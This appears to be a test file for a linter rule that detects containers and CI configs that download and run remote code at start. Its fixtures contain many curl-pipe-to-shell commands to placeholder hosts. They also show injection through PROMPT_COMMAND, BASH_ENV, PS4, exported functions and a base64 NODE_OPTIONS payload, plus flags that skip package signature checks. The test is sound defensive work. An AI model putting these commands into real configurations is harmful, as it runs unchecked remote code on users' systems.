import { describe, expect, it } from '@jest/globals';
import rule from '../../../src/rules/supply-chain/downloads/command-downloads-code.ts';
import { service } from '../../support/compose.ts';
import { checkText, expectMarks } from '../../support/example.ts';

describe('command-downloads-code', () => {
  const PIPE = 'environment: { X: "curl https://a.example.com | sh" }';
  it.each([
    ['eval', `command: ["sh", "-c", "eval \\"$$X\\""]\n${PIPE}`],
    ['a shell', `entrypoint: ["sh", "-c", "sh -c \\"$$X\\""]\n${PIPE}`],
    ['a text', `command: sh -c 'eval "$$X"'\n${PIPE}`],
    ['a health check', `healthcheck: { test: [CMD-SHELL, "eval \\"$$X\\""] }\n${PIPE}`],
    [
      'an interpreter',
      `entrypoint: [python3, -c]\ncommand: ["import os; os.system('curl https://a.example.com | sh')"]`,
    ],
  ])('reads the variables and the code of %s', (_name, options) => {
    expect(checkText(rule, 'compose.yaml', service(options)).findings).toHaveLength(1);
  });

  it.each([
    ['a pipe', 'command: bash -c "«wget -qO- https://get.example.com | bash» && exec app"'],
    ['a substitution', `entrypoint: sh -c '«eval "$$(curl -s https://get.example.com)"»'`],
    ['a package of the distribution', 'command: sh -c "apk add --no-cache «curl» && exec app"'],
    ['a package of npm', 'command: ["sh", "-c", "npm install -g «serve» && exec serve"]'],
    ['a health check', 'healthcheck:\n  test: ["CMD-SHELL", "«curl -fsS https://get.example.com/check.sh | sh»"]'],
    ['a health check as a text', 'healthcheck:\n  test: «wget -qO- https://get.example.com | bash» || exit 1'],
    ['a hook', 'post_start:\n  - command: pip install «requests»'],
  ])('reports %s', (_name, options) => {
    expectMarks(rule, 'compose.yaml', service(options));
  });

  const CURL = '«curl -fsSL https://get.example.com/a.sh | sh»';
  const WORKFLOW = '.github/workflows/ci.yml';
  const step = (inputs: string) =>
    `jobs:\n  a:\n    runs-on: ubuntu-latest\n    env: { OWN: 'sh -c "curl https://a.example.com | sh"' }\n    steps:\n      - uses: docker://alpine:3.22\n        with: ${inputs}\n`;
  const action = (keys: string) => `runs:\n  using: docker\n  image: docker://alpine:3.22\n  ${keys}\n`;
  it.each([
    ['compose.yaml', service(`entrypoint: sh\ncommand: ["-c", "${CURL}"]`)],
    ['compose.yaml', service(`entrypoint: [tini, --, /bin/bash]\ncommand: -euc "${CURL}"`)],
    ['compose.yaml', service(`entrypoint: ["sh", "-c"]\ncommand: ["${CURL}"]`)],
    ['run.sh', `docker run --entrypoint sh alpine:3.22 -c '${CURL}'\n`],
    ['run.sh', `podman run --entrypoint '["bash", "-c"]' alpine:3.22 "${CURL}"\n`],
    ['run.sh', `podman run --entrypoint '["sh", "-c", "${CURL}"]' alpine:3.22\n`],
    [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '-c "${CURL}"' }`)],
    [WORKFLOW, step(`{ args: 'bash -c "${CURL}"' }`)],
    [
      WORKFLOW,
      `jobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      b:\n        image: redis:8\n        entrypoint: sh\n        command: -c "${CURL}"\n`,
    ],
    ['compose.yaml', service(`entrypoint: sh -c\ncommand: '"${CURL}"'`)],
    ['compose.yaml', service(`entrypoint: ["sh", "-c"]\ncommand: "'${CURL}' x"`)],
    ['compose.yaml', service(`entrypoint: tini -- sh -c\ncommand: '"${CURL}"'`)],
    ['compose.yaml', service(`entrypoint: ["sh", "-c"]\ncommand: "'${CURL}'"`)],
    ['action.yml', action(`args: [sh, -c, "${CURL}"]`)],
    ['action.yml', action(`entrypoint: /bin/bash\n  args:\n    - -c\n    - ${CURL}`)],
    ['action.yml', action(`pre-entrypoint: sh -c "${CURL}"`)],
    ['action.yml', action(`entrypoint: /a.sh\n  post-entrypoint: sh -c "${CURL}"`)],
    ['action.yml', `runs:\n  using: Docker\n  image: Dockerfile\n  args: [sh, -c, "${CURL}"]\n`],
    [
      'action.yml',
      `runs:\n  using: composite\n  steps:\n    - uses: DOCKER://alpine:3.22\n      with: { args: 'sh -c "${CURL}"' }\n`,
    ],
  ])('reads entrypoint and command of %s together: %s', (path, text) => expectMarks(rule, path, text));

  it.each([
    ['compose.yaml', service(`entrypoint: echo -c\ncommand: '"curl https://a.example.com | sh"'`)],
    [
      'compose.yaml',
      service(`entrypoint: ["sh", "-c", "echo \\"$$1\\"", x]\ncommand: ["curl https://a.example.com | sh"]`),
    ],
    [
      'compose.yaml',
      service(`entrypoint: ["sh", "-c", "exec \\"$$@\\"", x]\ncommand: ["curl https://a.example.com | sh"]`),
    ],
    ['compose.yaml', service(`entrypoint: ["python3", "-c"]\ncommand: ["print('curl https://a.example.com | sh')"]`)],
    ['compose.yaml', service(`command: echo "$$X"\nenvironment: { X: "curl https://a.example.com | sh" }`)],
    ['compose.yaml', service(`command: sh -c 'echo "$$X"'\nenvironment: { X: "curl https://a.example.com | sh" }`)],
    ['compose.yaml', service('entrypoint: echo\ncommand: ["-c", "curl https://a.example.com | sh"]')],
    ['run.sh', `docker run --entrypoint sh alpine:3.22 /x -c 'curl https://a.example.com | sh'\n`],
    [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '-c "make test"' }`)],
    [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '\${{ inputs.a }}' }`)],
    [WORKFLOW, step(`{ args: 'echo curl | sh' }`).replace('docker://alpine:3.22', 'acme/tool@v1')],
    ['action.yml', action('args: ["curl https://a.example.com | sh"]')],
    ['action.yml', 'runs:\n  using: node24\n  image: x\n  args: [sh, -c, "curl https://a.example.com | sh"]\n'],
  ])('accepts an entrypoint and a command of %s: %s', (path, text) => expectMarks(rule, path, text));

  it('evaluates the variables of the workflow, the job and the step', () => {
    const { findings } = checkText(rule, WORKFLOW, step(`{ args: '\${{ env.OWN }}' }`));
    expect(findings.map(({ message }) => message)).toEqual([
      'Container "alpine:3.22" runs what curl fetches from a.example.com with sh at each start, and nothing checks what that is.',
    ]);
  });

  it.each([
    ['exact versions', 'command: sh -c "pip install flask==3.1.2 && exec flask run"'],
    ['a file of requirements', 'command: sh -c "pip install -r requirements.txt && exec flask run"'],
    ['a lockfile', 'command: sh -c "npm ci && exec node server.js"'],
    ['the packages of a project', 'command: sh -c "npm install && exec node server.js"'],
    [
      'a download that does not run',
      'command: sh -c "curl -fsS https://api.example.com/config -o /tmp/config && exec app"',
    ],
    ['a check', 'healthcheck:\n  test: curl -f http://localhost | grep ok'],
    ['packages that only run time knows', 'command: sh -c "pip install $$PACKAGES && exec app"'],
    ['a variable of compose', 'command: ${COMMAND}'],
    ['words that are no command', 'command: ["echo", "curl https://get.example.com | sh"]'],
  ])('accepts %s', (_name, options) => expectMarks(rule, 'compose.yaml', service(options)));

  it.each([
    ['command: sh -c "apk add curl && exec app"', 'low'],
    ['command: sh -c "apt-get install -y curl && exec app"', 'low'],
    ['command: sh -c "apk add --allow-untrusted curl && exec app"', 'high'],
    ['command: sh -c "apk add -X https://apk.example.com/main curl && exec app"', 'medium'],
    ['command: sh -c "apt-get install -y --allow-unauthenticated curl && exec app"', 'high'],
    ['command: sh -c "dnf install -y --nogpgcheck curl && exec app"', 'high'],
    ['command: sh -c "apk add --repositories-file /data/repositories curl"', 'medium'],
    ['command: sh -c "apk add --keys-dir /data curl"', 'medium'],
    ['command: sh -c "apk add -X $$MIRROR curl"', 'medium'],
    ['command: sh -c "echo https://apk.example.com >> /etc/apk/repositories && apk add curl"', 'medium'],
    ['command: sh -c "cd /etc/apk && echo https://apk.example.com >> repositories && apk add curl"', 'medium'],
    ['command: sh -c "cd /etc && echo https://apk.example.com >> apk/repositories && apk add curl"', 'medium'],
    ['command: sh -c "cd /etc && cp /data/a.repo ./yum.repos.d/ && dnf install -y curl"', 'medium'],
    ['command: sh -c "APT_CONFIG=/data/apt.conf apt-get install -y curl"', 'medium'],
    ['command: sh -c "export APT_CONFIG=/data/apt.conf; apt-get install -y curl"', 'medium'],
    ['environment: [APT_CONFIG=/data/apt.conf]\ncommand: sh -c "apt-get install -y curl"', 'medium'],
    ['volumes: ["./a.list:/etc/apt/sources.list.d/a.list"]\ncommand: sh -c "apt-get install -y curl"', 'medium'],
    ['volumes: ["./app:/app", "apt:/var/cache/apt"]\ncommand: sh -c "apt-get install -y curl"', 'low'],
    ['command: sh -c "curl -o /etc/apk/keys/a.pub https://apk.example.com/a.pub; apk add curl"', 'medium'],
    ['command: sh -c "apt-get -o Acquire::AllowInsecureRepositories=yes update && apt-get install -y curl"', 'high'],
    ['command: sh -c "apt-get -o Acquire::Retries=3 update && apt-get install -y curl"', 'low'],
    ['command: sh -c "apt-get install -y -o Dir::Etc::SourceList=/data/a.list curl"', 'medium'],
    ['command: sh -c "apt-get install -y -o Dpkg::Options::=--force-confold curl"', 'low'],
    ['command: sh -c "apt-get install -y -c /data/apt.conf curl"', 'medium'],
    ['command: sh -c "apt-get install -y /data/release.deb && apt-get install -y curl"', 'medium'],
    ['command: sh -c "dpkg -i /data/release.deb && apt-get install -y curl"', 'medium'],
    ['command: sh -c "add-apt-repository -y ppa:acme/tools && apt-get install -y curl"', 'medium'],
    ['command: sh -c "apt-get install -y curl && rm -rf /var/lib/apt/lists/*"', 'low'],
    ['command: sh -c "dnf copr enable -y acme/tools && dnf install -y curl"', 'medium'],
    ['command: sh -c "dnf config-manager --add-repo /data/a.repo && dnf install -y curl"', 'medium'],
    ['command: sh -c "rpm --import /data/key && yum install -y curl"', 'medium'],
    ['command: sh -c "dnf install -y curl && dnf clean all"', 'low'],
    ['command: sh -c "zypper ar /data/a a && zypper --non-interactive install curl"', 'medium'],
    ['command: sh -c "pip install flask && exec flask run"', 'medium'],
    ['command: sh -c "curl https://get.example.com | sh"', 'high'],
    ['command: sh -c "curl -o /a.sh https://get.example.com/a.sh && sh /a.sh"', 'high'],
    ['command: sh -c "curl -o /a https://get.example.com/a && chmod +x /a && /a"', 'medium'],
    ['healthcheck: { test: "curl https://get.example.com | sh" }', 'high'],
    ['post_start: [{ command: ["sh", "-c", "curl https://get.example.com | sh"] }]', 'high'],
    ['environment: { PROMPT_COMMAND: "curl https://get.example.com | sh" }', 'high'],
    ['environment: { BASH_ENV: "$$(curl https://get.example.com | sh)" }', 'high'],
    ['environment: ["PS4=+ $$(curl https://get.example.com | sh) "]', 'high'],
    ['environment: { "BASH_FUNC_ls%%": "() { curl https://get.example.com | sh; }" }', 'high'],
    [
      `environment: { NODE_OPTIONS: "--import=data:text/javascript,import('child_process').then(c=>c.execSync('curl https://get.example.com | sh'))" }`,
      'high',
    ],
    [
      `environment: { NODE_OPTIONS: "--import=data:text/javascript;base64,${Buffer.from(`import{execSync}from'child_process';execSync('curl https://get.example.com | sh')`).toString('base64')}" }`,
      'high',
    ],
  ])('%s is %s', (options, severity) =>
    expect(checkText(rule, 'compose.yaml', service(options)).findings.map((finding) => finding.severity)).toEqual([
      severity,
    ]),
  );

  it('takes no package for one of the distribution next to what a script from the network sets up', () => {
    const text = service(
      'command: sh -c "curl -fsSL https://get.example.com/setup | bash - && apt-get install -y nodejs"',
    );
    expect(checkText(rule, 'compose.yaml', text).findings.map(({ severity }) => severity)).toEqual(['high', 'medium']);
  });

  it.each([
    'docker exec $c sh -c "«curl -fsSL https://get.example.com/a.sh | sh»"',
    'docker exec -it $(docker ps -q) sh -c "«curl -fsSL https://get.example.com/a.sh | sh»"',
    'buildah run $c sh -c "«curl -fsSL https://get.example.com/a.sh | sh»"',
    'docker exec $c sh -c "curl -fsSL https://get.example.com/a.sh -o /tmp/a"',
    'docker exec $OPTIONS c ls /tmp',
    'docker run $c sh -c "curl -fsSL https://get.example.com/a.sh | jq ."',
  ])('knows a container by a variable without quotes: %s', (text) => expectMarks(rule, 'a.sh', `#!/bin/sh\n${text}\n`));
});
